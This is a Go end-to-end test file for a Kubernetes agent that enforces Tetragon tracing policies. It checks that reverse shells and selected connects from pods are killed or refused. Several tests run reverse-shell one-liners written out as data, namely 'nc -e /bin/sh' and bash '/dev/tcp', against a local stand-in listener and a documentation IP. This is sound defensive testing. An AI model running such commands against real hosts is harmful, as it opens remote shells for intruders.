package k8s

import (
	"encoding/json"
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ocigate/ocigate/internal/seeds"
	"github.com/ocigate/ocigate/internal/testenv/peer"
	"github.com/ocigate/ocigate/internal/testenv/policyfixture"
)

// listen starts the stand-in attacker (internal/testenv/peer): it sends
// a command to whoever connects and records what comes back, so a shell
// that answered shows as "OWNED-42" in Received.
func listen(t *testing.T, addr string) *peer.Listener {
	t.Helper()
	l, err := peer.Listen(addr, []byte("echo OWNED-$((6*7))\n"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	return l
}

// answered reports whether a shell answered l's command.
func answered(l *peer.Listener) bool { return strings.Contains(l.Received(), "OWNED-42") }

// TestHelmInstall installs the chart with Helm (go tool helm) and waits
// for the DaemonSet's pod to be ready — its probes pass only when the
// agent answers and every point enforces — and its NRI plugin to be
// connected.
func TestHelmInstall(t *testing.T) {
	root, _ := filepath.Abs("../..")
	cmd := exec.Command("go", "tool", "helm", "upgrade", "--install", "ocigate", filepath.Join(root, "deploy/ocigate"),
		"--namespace", cluster.ns, "--create-namespace", "-f", cluster.values, "--wait", "--timeout", "3m")
	cmd.Dir = root
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("helm install: %v\n%s", err, out)
	}
	kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=120s")
	// The node's gate leaves containers to the NRI plugin once the agent
	// says it is connected.
	eventually(t, 30*time.Second, "the agent's NRI plugin connected", func() error {
		if n := counter(t, "nri_connected"); n != 1 {
			return fmt.Errorf("nri_connected %d", n)
		}
		return nil
	}, daemonSetLogs)
}

// TestReverseShellPodStopped: busybox nc -e and bash's /dev/tcp from
// pods are stopped by the default profile; the listener gets no shell
// and the event names the pod and its namespace.
func TestReverseShellPodStopped(t *testing.T) {
	ns := namespace(t, cluster.prefix+"-revshell")
	l := listen(t, "127.0.0.1:0")
	labels := map[string]string{"app": "revshell"}
	before := counter(t, "registrations")
	for _, p := range []podSpec{
		{ns: ns, name: "nc-e", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: labels,
			script: fmt.Sprintf("sleep 1; nc 127.0.0.1 %d -e /bin/sh; echo rc=$?", l.Port())},
		{ns: ns, name: "bash-dev-tcp", image: "bash", shell: "/bin/bash", hostNetwork: true, labels: labels,
			script: fmt.Sprintf("sleep 1; bash -i >& /dev/tcp/127.0.0.1/%d 0>&1; echo rc=$?", l.Port())},
	} {
		_, logs := run(t, p)
		if !strings.Contains(logs, "rc=137") {
			t.Errorf("%s: the shell was not killed: %q", p.name, logs)
		}
		// The pod object as Tetragon's: names, labels, owning workload.
		ev := waitEvent(t, ns, p.name, map[string]string{"action": "KPROBE_ACTION_SIGKILL", "policy_name": "reverse-shell",
			"process.pod.pod_labels.app": "revshell", "process.pod.workload": p.name, "process.pod.workload_kind": "Pod"})
		t.Logf("%s: %v %v in pod %v/%v", p.name, ev["function_name"], ev["action"],
			field(ev, "process", "pod", "namespace"), field(ev, "process", "pod", "name"))
	}
	if answered(l) {
		t.Errorf("a shell answered the listener")
	}
	// The node's gate left both containers to the NRI plugin: one
	// registration each, none by the hook.
	if n := counter(t, "registrations") - before; n != 2 {
		t.Errorf("%d registrations for 2 containers, want 2 (the NRI plugin's only)", n)
	}
}

// counter is one of the agent's status counters.
func counter(t *testing.T, name string) uint64 {
	t.Helper()
	out := kubectl(t, "", "-n", cluster.ns, "exec", "daemonset/ocigate", "-c", "agent", "--",
		"/ocigate-agentd", "status", "--summary", "-o", "json", "--socket="+cluster.runDir+"/agentd.sock")
	var st struct{ Counters map[string]uint64 }
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("agent status: %v", err)
	}
	return st.Counters[name]
}

const denyLoopback2 = `apiVersion: cilium.io/v1alpha1
kind: TracingPolicyNamespaced
metadata: {name: deny-127-0-0-2, namespace: %s}
spec:
  podSelector: {matchLabels: {app: web}}
` + policyfixture.DenyLoopback2

// TestNamespacedPolicyStaysInItsNamespace: a TracingPolicyNamespaced in
// namespace A refuses the selected pods' connects there; the same pod
// in namespace B connects. It logs the time from kubectl apply to the
// policy's status saying it is loaded on the node.
func TestNamespacedPolicyStaysInItsNamespace(t *testing.T) {
	a, b := namespace(t, cluster.prefix+"-a"), namespace(t, cluster.prefix+"-b")
	l := listen(t, "127.0.0.2:0")
	kubectl(t, fmt.Sprintf(denyLoopback2, a), "apply", "-f", "-")
	took := policyLoaded(t, "tracingpoliciesnamespaced", a, "deny-127-0-0-2")
	t.Logf("kubectl apply to loaded on the node: %v", took)
	script := fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.Port())
	web := map[string]string{"app": "web"}
	_, logs := run(t, podSpec{ns: a, name: "web", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: web, script: script})
	if strings.Contains(logs, "rc=0") || len(l.Conns()) != 0 {
		t.Errorf("namespace %s: the connect was not refused: %q, %d connections", a, logs, len(l.Conns()))
	}
	waitEvent(t, a, "web", map[string]string{"policy_name": a + ".deny-127-0-0-2", "function_name": "tcp_connect"})
	_, logs = run(t, podSpec{ns: b, name: "web", image: "busybox", shell: "/bin/sh", hostNetwork: true, labels: web, script: script})
	if !strings.Contains(logs, "rc=0") || len(l.Conns()) != 1 {
		t.Errorf("namespace %s: the policy of %s touched it: %q, %d connections", b, a, logs, len(l.Conns()))
	}
	if evs := events(t, b, "web"); hasPolicy(evs, a+".deny-127-0-0-2") {
		t.Errorf("namespace %s has events of %s's policy", b, a)
	}
	relabel(t, a, l)
}

// relabel: a running pod that the policy does not select gets the
// label it selects; the agent moves it to the generated profile and its
// next connect is refused.
func relabel(t *testing.T, ns string, l *peer.Listener) {
	t.Helper()
	script := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.Port())
	kubectl(t, podSpec{ns: ns, name: "relabel", image: "busybox", shell: "/bin/sh", hostNetwork: true,
		labels: map[string]string{"app": "other"}, script: script}.manifest(), "apply", "-f", "-")
	kubectl(t, "", "-n", ns, "wait", "--for=condition=Ready", "pod/relabel", "--timeout=60s")
	id := strings.TrimPrefix(kubectl(t, "", "-n", ns, "get", "pod", "relabel", "-o", "jsonpath={.status.containerStatuses[0].containerID}"), "containerd://")
	if p := profileOf(t, id); strings.HasPrefix(p, "k8s-") {
		t.Fatalf("before the label change the pod has profile %s", p)
	}
	start := time.Now()
	kubectl(t, "", "-n", ns, "label", "pod", "relabel", "app=web", "--overwrite")
	eventually(t, 30*time.Second, "the relabelled pod moves to the generated profile", func() error {
		if p := profileOf(t, id); !strings.HasPrefix(p, "k8s-") {
			return fmt.Errorf("profile %q", p)
		}
		return nil
	})
	t.Logf("kubectl label to the pod's new profile: %v", time.Since(start).Round(time.Millisecond))
	conns := len(l.Conns())
	kubectl(t, "", "-n", ns, "exec", "relabel", "--", "touch", "/tmp/go")
	kubectl(t, "", "-n", ns, "wait", "--for=jsonpath={.status.phase}=Succeeded", "pod/relabel", "--timeout=30s")
	if logs := kubectl(t, "", "-n", ns, "logs", "relabel"); strings.Contains(logs, "rc=0") || len(l.Conns()) != conns {
		t.Errorf("after the label change the connect was not refused: %q", logs)
	}
}

// profileOf asks the agent which profile a container has.
func profileOf(t *testing.T, id string) string {
	t.Helper()
	out := kubectl(t, "", "-n", cluster.ns, "exec", "daemonset/ocigate", "-c", "agent", "--",
		"/ocigate-agentd", "status", "-o", "json", "--socket="+cluster.runDir+"/agentd.sock")
	var st struct {
		Workloads []struct {
			ContainerID string `json:"container_id"`
			Profile     string `json:"profile"`
		} `json:"workloads"`
	}
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("agent status: %v", err)
	}
	for _, w := range st.Workloads {
		if w.ContainerID == id {
			return w.Profile
		}
	}
	t.Fatalf("the agent does not list container %s", id)
	return ""
}

func hasPolicy(evs []map[string]any, name string) bool {
	for _, ev := range evs {
		if ev["policy_name"] == name {
			return true
		}
	}
	return false
}

// TestBadPolicyRefusedNamingField: a policy the agent cannot carry out
// is refused in its status, naming the field, and what was enforced
// before stays.
func TestBadPolicyRefusedNamingField(t *testing.T) {
	bad := "apiVersion: cilium.io/v1alpha1\nkind: TracingPolicy\nmetadata: {name: " + cluster.prefix + "-bad}\n" +
		"spec:\n  kprobes:\n  - call: tcp_connect\n    selectors:\n    - matchActions: [{action: Nope}]\n"
	kubectl(t, bad, "apply", "-f", "-")
	t.Cleanup(func() { _, _ = kubectlErr("", "delete", "tracingpolicy", cluster.prefix+"-bad") })
	var msg string
	eventually(t, 30*time.Second, "status of the bad policy", func() error {
		out, err := kubectlErr("", "get", "tracingpolicy", cluster.prefix+"-bad", "-o", "jsonpath={.status.nodes."+cluster.node+".state}|{.status.nodes."+cluster.node+".message}")
		if err != nil || !strings.HasPrefix(out, "failed|") {
			return fmt.Errorf("status %q (%v)", out, err)
		}
		msg = out
		return nil
	})
	if !strings.Contains(msg, "spec.kprobes[0]") {
		t.Errorf("the refusal does not name the field: %s", msg)
	}
	t.Logf("refused: %s", msg)
	kubectl(t, "", "-n", cluster.ns, "rollout", "status", "daemonset/ocigate", "--timeout=10s")
}

// TestSeedPoliciesWithKubectl: the seven seed TracingPolicies, applied
// unchanged with kubectl, report the events the single-host e2e test
// TestSeedEnforceDeniesReverseShellConnect expects.
func TestSeedPoliciesWithKubectl(t *testing.T) {
	dir := t.TempDir()
	files, err := seeds.WriteDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	kubectl(t, "", "apply", "-f", dir)
	t.Cleanup(func() { _, _ = kubectlErr("", "delete", "-f", dir) })
	for _, f := range files {
		out := kubectl(t, "", "get", "-f", f, "-o", "jsonpath={.metadata.name}")
		policyLoaded(t, "tracingpolicy", "", out)
	}
	ns := namespace(t, cluster.prefix+"-seeds")
	_, logs := run(t, podSpec{ns: ns, name: "seed-enforce", image: "busybox", shell: "/bin/sh",
		script: "/usr/bin/nc -w 2 203.0.113.7 4444; echo rc=$?"})
	if strings.Contains(logs, "unreachable") || strings.Contains(logs, "rc=0") {
		t.Errorf("the connect was not stopped: %q", logs)
	}
	waitEvent(t, ns, "seed-enforce", map[string]string{
		"function_name": "tcp_connect", "action": "KPROBE_ACTION_SIGKILL", "policy_name": "enforce-no-reverse-shell",
		"process.binary": "/usr/bin/nc", "args.0.sock_arg.daddr": "203.0.113.7"})
	waitEvent(t, ns, "seed-enforce", map[string]string{"policy_name": "detect-reverse-shell-outbound", "action": "KPROBE_ACTION_POST"})
}

var imageProfile = `apiVersion: ocigate.io/v1alpha1
kind: WorkloadProfile
metadata: {name: %[1]s-bash-no-127-0-0-2}
spec:
  match:
    images: ["localhost/%[1]s/bash:1"]
  mode: enforce
  failurePolicy: closed
  policies:
  - name: reverse-shell
  - inline:
      metadata: {name: %[1]s-bash-no-127-0-0-2}
      spec:
` + policyfixture.Indent(policyfixture.DenyLoopback2, "      ")

// TestWorkloadProfileByImage: a WorkloadProfile applied with kubectl
// chooses pods by image, as the same file does on a single host.
func TestWorkloadProfileByImage(t *testing.T) {
	ns := namespace(t, cluster.prefix+"-image")
	l := listen(t, "127.0.0.2:0")
	name := cluster.prefix + "-bash-no-127-0-0-2"
	kubectl(t, fmt.Sprintf(imageProfile, cluster.prefix), "apply", "-f", "-")
	t.Cleanup(func() { _, _ = kubectlErr("", "delete", "workloadprofile", name) })
	policyLoaded(t, "workloadprofile", "", name)
	_, logs := run(t, podSpec{ns: ns, name: "bash", image: "bash", shell: "/bin/bash", hostNetwork: true,
		script: fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.2/%d; echo rc=$?", l.Port())})
	if strings.Contains(logs, "rc=0") || len(l.Conns()) != 0 {
		t.Errorf("the bash image's connect was not refused: %q", logs)
	}
	waitEvent(t, ns, "bash", map[string]string{"policy_name": name, "function_name": "tcp_connect"})
	_, logs = run(t, podSpec{ns: ns, name: "busybox", image: "busybox", shell: "/bin/sh", hostNetwork: true,
		script: fmt.Sprintf("nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.Port())})
	if !strings.Contains(logs, "rc=0") || len(l.Conns()) != 1 {
		t.Errorf("the profile of the bash image touched a busybox pod: %q", logs)
	}
}

const denyByContainer = `apiVersion: cilium.io/v1alpha1
kind: TracingPolicyNamespaced
metadata: {name: deny-blocked, namespace: %s}
spec:
  containerSelector: {matchLabels: {name: blocked}}
` + policyfixture.DenyLoopback2

// TestContainerSelectorChoosesByName: a policy whose containerSelector
// names one container of a pod puts that container, and not its
// neighbour in the same pod, under a generated profile: its connect is
// refused, the neighbour's is not, and the event names the container.
func TestContainerSelectorChoosesByName(t *testing.T) {
	ns := namespace(t, cluster.prefix+"-containers")
	l := listen(t, "127.0.0.2:0")
	kubectl(t, fmt.Sprintf(denyByContainer, ns), "apply", "-f", "-")
	policyLoaded(t, "tracingpoliciesnamespaced", ns, "deny-blocked")
	script := fmt.Sprintf("while [ ! -e /tmp/go ]; do sleep 0.2; done; nc -w 2 127.0.0.2 %d </dev/null; echo rc=$?", l.Port())
	var containers []any
	for _, name := range []string{"blocked", "free"} {
		containers = append(containers, map[string]any{"name": name, "image": "localhost/" + cluster.prefix + "/busybox:1",
			"command": []string{"/bin/sh", "-c", script}})
	}
	pod, _ := json.Marshal(map[string]any{"apiVersion": "v1", "kind": "Pod",
		"metadata": map[string]any{"name": "two", "namespace": ns},
		"spec":     map[string]any{"hostNetwork": true, "restartPolicy": "Never", "terminationGracePeriodSeconds": 1, "containers": containers}})
	kubectl(t, string(pod), "apply", "-f", "-")
	kubectl(t, "", "-n", ns, "wait", "--for=condition=Ready", "pod/two", "--timeout=60s")
	ids := map[string]string{}
	for _, c := range []string{"blocked", "free"} {
		ids[c] = strings.TrimPrefix(kubectl(t, "", "-n", ns, "get", "pod", "two", "-o",
			"jsonpath={.status.containerStatuses[?(@.name==\""+c+"\")].containerID}"), "containerd://")
	}
	eventually(t, 30*time.Second, "the selected container has a generated profile", func() error {
		if p := profileOf(t, ids["blocked"]); !strings.HasPrefix(p, "k8s-") {
			return fmt.Errorf("profile %q", p)
		}
		return nil
	}, generatedProfiles)
	if p := profileOf(t, ids["free"]); p != "reverse-shell" {
		t.Errorf("the container the policy does not select has profile %s", p)
	}
	for _, c := range []string{"blocked", "free"} {
		kubectl(t, "", "-n", ns, "exec", "two", "-c", c, "--", "touch", "/tmp/go")
	}
	kubectl(t, "", "-n", ns, "wait", "--for=jsonpath={.status.phase}=Succeeded", "pod/two", "--timeout=30s")
	if logs := kubectl(t, "", "-n", ns, "logs", "two", "-c", "blocked"); strings.Contains(logs, "rc=0") {
		t.Errorf("the selected container connected: %q", logs)
	}
	if logs := kubectl(t, "", "-n", ns, "logs", "two", "-c", "free"); !strings.Contains(logs, "rc=0") {
		t.Errorf("the container the policy does not select was refused: %q", logs)
	}
	if n := len(l.Conns()); n != 1 {
		t.Errorf("%d connections reached the listener, want 1 (the free container's)", n)
	}
	waitEvent(t, ns, "two", map[string]string{"policy_name": ns + ".deny-blocked", "function_name": "tcp_connect",
		"process.pod.container.name": "blocked"})
}

// generatedProfiles is the profiles file ocigate-kube wrote, for a
// failure message.
func generatedProfiles() string {
	out, err := kubectlErr("", "-n", cluster.ns, "exec", "daemonset/ocigate", "-c", "agent", "--",
		"/ocigate-agentd", "profiles", "show", "--profiles=/etc/ocigate/profiles")
	return fmt.Sprintf("profiles (%v):\n%s\n%s", err, out, daemonSetLogs())
}
